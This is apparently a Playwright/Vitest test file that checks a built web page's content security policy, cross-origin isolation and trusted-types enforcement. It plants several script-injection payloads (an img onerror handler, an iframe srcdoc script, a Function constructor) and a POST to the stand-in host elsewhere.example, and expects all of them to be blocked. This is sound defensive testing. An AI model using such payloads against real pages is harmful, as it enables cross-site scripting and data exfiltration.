import { createReadStream, existsSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { extname, join } from 'node:path';
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, expect, inject, test } from 'vitest';
import { types } from '../../scripts/headers.mjs';
import { launch } from './browser.ts';
import { recordOf } from './visit.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launch();
});
afterAll(() => browser.close());

test('the built page loads under its own policy, isolated, from its own origin alone', async () => {
  const page = await browser.newPage();
  const complaints: string[] = [];
  const foreign: string[] = [];
  page.on('console', (message) => {
    if (/policy|trusted/i.test(message.text())) complaints.push(message.text());
  });
  page.on('request', (request) => {
    if (!request.url().startsWith(inject('baseUrl')) && !/^(data|blob):/.test(request.url()))
      foreign.push(request.url());
  });
  const response = await page.goto(inject('baseUrl'));
  expect(response?.status()).toBe(200);
  expect(response?.headers()['content-security-policy']).toContain("connect-src 'self'");
  expect(response?.headers()['permissions-policy']).toContain('camera=()');
  expect(await page.evaluate(() => [crossOriginIsolated, isSecureContext, document.documentElement.lang])).toEqual([
    true,
    true,
    'en',
  ]);
  expect(complaints).toEqual([]);
  expect(foreign).toEqual([]);
  await page.close();
});

/** What becomes of texts that somebody plants in the page. */
const planted = (page: Page) =>
  page.evaluate(async () => {
    const tried: Record<string, () => unknown> = {
      html: () => {
        document.body.innerHTML = '<img src=x onerror="window.broken = true">';
      },
      frame: () => {
        document.createElement('iframe').srcdoc = '<script>parent.broken = true</script>';
      },
      script: () => {
        document.createElement('script').src = './assets/none.js';
      },
      text: () => Reflect.construct(Function, ['window.broken = true']),
      worker: () => new Worker('./assets/none.js'),
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
        ).trustedTypes.createPolicy('other', {}),
    };
    // Whatever runs in the same task as the test's own script may make code of text.
    await new Promise((resolve) => setTimeout(resolve));
    const through = Object.entries(tried).flatMap(([name, act]) => {
      try {
        act();
        return name;
      } catch {
        return [];
      }
    });
    const sent = await fetch('https://elsewhere.example/', { method: 'POST', body: 'x' }).then(
      () => ['sent'],
      () => [],
    );
    return [...through, ...sent];
  });

test('no planted text becomes part of the page, and nothing is sent elsewhere', async () => {
  const page = await browser.newPage();
  await page.goto(inject('baseUrl'));
  await recordOf(page);
  expect(await planted(page)).toEqual([]);
  await page.close();
});

test('the same where a server sends no headers: the page says its policy itself', async () => {
  const dist = join(import.meta.dirname, '../../dist');
  const bare = createServer(({ url = '/' }, response) => {
    const file = join(dist, url === '/' ? 'index.html' : url.split('?')[0]);
    if (!existsSync(file)) return response.writeHead(404).end();
    response.writeHead(200, { 'Content-Type': types[extname(file)] ?? 'application/octet-stream' });
    createReadStream(file).pipe(response);
  });
  await new Promise<void>((done) => bare.listen(0, '127.0.0.1', done));
  const page = await browser.newPage();
  await page.goto(`http://127.0.0.1:${(bare.address() as AddressInfo).port}/`);
  await recordOf(page);
  expect(await planted(page)).toEqual([]);
  await page.close();
  bare.closeAllConnections();
  bare.close();
});
